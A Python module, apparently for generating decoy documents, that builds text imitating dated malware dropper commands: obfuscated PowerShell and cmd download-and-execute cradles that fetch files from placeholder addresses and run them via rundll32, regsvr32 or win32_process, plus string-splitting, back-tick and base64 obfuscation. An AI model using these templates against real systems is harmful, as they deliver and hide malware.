"""The commands of each period, as text: addresses of nobody, tried in turn. Nothing here is ever run."""

from __future__ import annotations

from random import Random

from support.document_decoys import addresses, encoded, name
from support.draws import letters

ODD = ("J)(3s2)(", "]b2[s", "]anw[3", "sg yw ah")


def strewn_case(draw: Random, text: str) -> str:
    """PowerShell and cmd do not mind capitals."""
    return "".join(one.upper() if draw.random() < 0.3 and one.isascii() else one for one in text)


def pieces(draw: Random, text: str) -> str:
    """A literal in two to four pieces."""
    cuts = sorted(draw.sample(range(1, len(text)), min(len(text) - 1, draw.randint(1, 3))))
    return "(" + "+".join(f"'{text[a:b]}'" for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)) + ")"


def ticked(draw: Random, word: str) -> str:
    """A method's name in quotes with back-ticks before letters that mean nothing behind one."""
    return '"' + "".join(f"`{one}" if draw.random() < 0.4 and one not in "0abefnrtuv" else one for one in word) + '"'


def of_2020(draw: Random) -> str:
    """2020-07 to 2020-12: folders of its own below the user's, a program, its size looked at (P3)."""
    path, client, urls, one = (f"${letters(draw, 7, 9)}" for _ in range(4))
    a, b, c = (name(draw)[:8] for _ in range(3))
    return strewn_case(
        draw,
        f"$x1='{letters(draw, 5, 8)}';[system.io.directory]::{ticked(draw, 'createdirectory')}($env:userprofile+'\\{a}\\{b}\\');"
        f"{path}=$env:userprofile+'\\{a}\\{b}\\'+'{c}'+'.exe';{client}=.('new-'+'object') net.webclient;"
        f"{urls}={pieces(draw, '*'.join(addresses(draw, draw.randint(5, 8))))}.{ticked(draw, 'split')}([char]42);"
        f"foreach({one} in {urls}){{try{{{client}.{ticked(draw, 'downloadfile')}({one}, {path});"
        f"if ((.('get-'+'item') {path}).{ticked(draw, 'length')} -ge {draw.randint(20458, 39936)}) "
        f"{{([wmiclass]'win32_process').{ticked(draw, 'create')}({path});break}}}}catch{{}}}}",
    )


def of_january_2021(draw: Random) -> str:
    """2020-12-21 to 2021-01: a library for rundll32 (P4); ``http`` stands as junk that is replaced."""
    path, urls, one = (f"${letters(draw, 3, 6)}" for _ in range(3))
    a, b, c = (letters(draw, 6, 8) for _ in range(3))
    odd = draw.choice(ODD)
    listed = "@".join(url.replace("http", odd) for url in addresses(draw, draw.randint(5, 8)))
    return (
        f"$o1=[type]('{{0}}{{1}}' -f 'system.io.','directory');$o1::{ticked(draw, 'createdirectory')}($home+'\\{a}\\{b}\\');"
        f"{path}=$home+'\\{a}\\{b}\\'+'{c}'+'.dll';"
        f"{urls}={pieces(draw, listed)}.{ticked(draw, 'replace')}({pieces(draw, odd)},'http').{ticked(draw, 'split')}('@');"
        f"foreach({one} in {urls}){{try{{(&('new-object') system.net.webclient).{ticked(draw, 'downloadfile')}({one},{path});"
        f"if ((&('get-item') {path}).{ticked(draw, 'length')} -ge {draw.randint(30000, 49999)}) "
        f"{{&('rundl'+'l32') {path},{pieces(draw, draw.choice(('Control_RunDLL', 'RunDLL', 'ShowDialogA')))};break}}}}catch{{}}}}"
    )


def of_november_2021(draw: Random) -> str:
    """2021-11 and -12: ``$strs``, a number drawn by chance below ProgramData, rundll32 (P5)."""
    return (
        f'$strs="{",".join(addresses(draw, draw.randint(5, 7)))}".Split(",");foreach($st in $strs){{$r1=Get-Random;$r2=Get-Random;'
        '$tpth="c:\\programdata\\"+$r1+".dll";Invoke-WebRequest -Uri $st -OutFile $tpth;if(Test-Path $tpth)'
        '{$fp="c:\\windows\\syswow64\\rundll32.exe";$a=$tpth+",f"+$r2;Start-Process $fp -ArgumentList $a;break;}}'
    )


def of_april_2022(draw: Random) -> str:
    """The script in the shortcuts of 2022-04 and -05."""
    word, file = letters(draw, 9, 12), f"{letters(draw, 10, 10)}.{letters(draw, 3, 3)}"
    listed = ",".join(f'"{url}"' for url in addresses(draw, draw.randint(5, 7)))
    return (
        f'Write-Host "{word}";$ProgressPreference="SilentlyContinue";$links=({listed});foreach ($u in $links) '
        f"{{try {{IWR $u -OutFile $env:TEMP/{file};Regsvr32.exe $env:TEMP/{file};break}} catch {{ }}}}"
    )


def alphabet(draw: Random, text: str) -> str:
    """cmd of late 2018: the letters by their places in an alphabet, behind a path that leads nowhere."""
    order = sorted(set(text))
    draw.shuffle(order)
    places = " ".join(str(order.index(one)) for one in text)
    folder, variable, short = letters(draw, 5, 9), letters(draw, 3, 3), letters(draw, 1, 1)
    return (
        f'c:\\{folder}\\{letters(draw, 5, 9)}\\..\\..\\windows\\system32\\cmd.exe /V:O/C"set {variable}={"".join(order)}'
        f"&&for %{short} in ({places} {len(order) + 9})do set {folder}=!{folder}!!{variable}:~%{short},1!"
        f'&&if %{short} geq {len(order) + 9} call %{folder}:~-{len(text)}%"'
    )


def powershell(draw: Random, text: str) -> str:
    """With the switch of the day and the command in base64, without its first letter."""
    return f"owershell -{draw.choice(('e', 'en', 'enco', 'w hidden -en', 'w hidden -ENCOD'))} {encoded(text)}"


def pseudo_word(draw: Random) -> str:
    """As *Buhike*."""
    return "".join(draw.choice("bdfghklmnprst") + draw.choice("aeiou") for _ in range(3)).capitalize()
